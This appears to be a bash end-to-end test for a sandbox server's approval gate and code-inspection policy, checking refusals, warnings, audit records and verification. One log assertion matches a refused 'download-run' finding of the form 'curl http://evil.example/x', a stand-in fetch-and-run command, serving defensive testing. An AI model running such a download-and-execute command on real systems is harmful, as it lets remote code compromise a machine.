#!/bin/bash
# callgate serve --approve: denied calls of sandboxes wait for the approver. A template whose policy has "inspect": what
# is found in programs and code is an error, in the server's log, and on record.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/server.sh"
need_server
H=$T/host
mkdir -p "$H" "$T/templates/asks" "$T/templates/looks" "$T/audit"
for name in a b; do
	echo "text $name" >"$H/$name"
done
policy='"version": 1, "filesystem": {"read": ["/usr", "/bin", "/lib", "/lib64", "/etc", "/run"], "write": ["@workdir"],
	"exec": ["/usr", "/bin", "/lib", "/lib64"]}'
echo "{$policy, \"on_deny\": \"ask\"}" >"$T/templates/asks/policy.json"
cat >"$T/templates/looks/policy.json" <<END
{"version": 1, "extends": ["$SRC/agents/templates/code-interpreter-v1/policy.json"], "inspect": {"refuse": ["alarm"],
	"warn": ["warning"]}}
END
export CALLGATE_PARSERS=$SRC/cli/inspect/parsers

refused()
{
	timeout 100 "$CALLGATE" serve --api-key "$SERVE_KEY" "$@" >"$T/out" 2>&1 && fail "serve $*"
	[ -s "$T/out" ] || fail "serve $*: nothing is said"
}
refused --approve client
refused --approve tty
refused --approve socket:relative
refused --approve command:
refused --approve command:true --ask-timeout 0
refused --approvals "$T/kept"
refused --ask-timeout 5s

client()
{
	timeout -k 5 "$LIVE_TIMEOUT" "$PYTHON" "$SRC/tests/cases/e2b-approval.py" "$@" || fail "$1"
}
start_server --api-key "$SERVE_KEY" --templates "$T/templates" --ask-timeout 20s --approve \
	"command:jq -c '{id, answer: (if .resolved == \"$H/a\" then \"once\" else \"no\" end)}'"
client approval asks "$H"
stop_server TERM
await_sessions "stopped"
start_server --api-key "$SERVE_KEY" --templates "$T/templates" --audit-dir "$T/audit"
client looks looks
stop_server TERM
await_sessions "stopped, looking"
# The log tells of refusals, of what was warned of, and of a file that was another one when it ran; so does the record.
for line in '.event == "program_refused" and (.why | test("bad.py:2: download-run: curl http://evil.example/x"))' \
	'.event == "findings" and any(.findings[]; .kind == "not-looked-at")' \
	'.event == "findings_unlisted" and .count == 350' \
	'.event == "changed_after_look" and .files == ["good.py"] and .program == "/bin/bash"' \
	'.event == "changes_unknown" and .program == "/bin/bash" and (.why | test("was ended"))'; do
	jq -es "any(.[]; $line)" "$T/log" >/dev/null || fail "the log has no line with $line: $(cat "$T/log")"
done
log=$(grep -l '"event":"inspect"' "$T"/audit/*)
[ "$(grep -c '"event":"inspect","cause":".*:[12]: download-run: .*"verdict":"deny"' "$log")" = 9 ] ||
	fail "records: $(grep '"event":"inspect"' "$T"/audit/*)"
grep -q '"event":"inspect","cause":"good.py","path":"/bin/bash".*"reason":"changed_after_look"' "$log" ||
	fail "no record of a change: $(grep '"event":"inspect"' "$log")"
[ "$(grep -c '"path":"x*… \[[23]0000[05] bytes\]"' "$log")" = 2 ] || fail "long names: $(grep '"path":"x' "$log")"
"$CALLGATE" audit verify "$log" >"$T/out" 2>&1 || fail "verify: $(cat "$T/out")"
start_server --api-key "$SERVE_KEY" --templates "$T/templates"
client nobody asks "$H"
stop_server TERM
await_sessions "stopped without an approver"
exit 0
